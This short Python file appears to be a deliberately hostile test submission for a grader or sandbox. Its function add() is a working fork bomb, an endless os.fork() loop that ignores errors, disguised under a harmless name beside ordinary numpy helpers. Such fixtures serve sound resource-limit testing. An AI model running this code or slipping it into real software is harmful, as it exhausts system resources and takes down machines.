"""Hostile submission res_fork_bomb: Fork bomb: every process forks forever, ignoring EAGAIN.

Hostile part: add(); the other parts are correct and never call it.
"""

import numpy as np
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def scale(x, c):
    return c * x


def norm(x):
    return float(np.sqrt(np.sum(np.square(x))))


def pair(x):
    return float(np.sum(x)), 2 * x
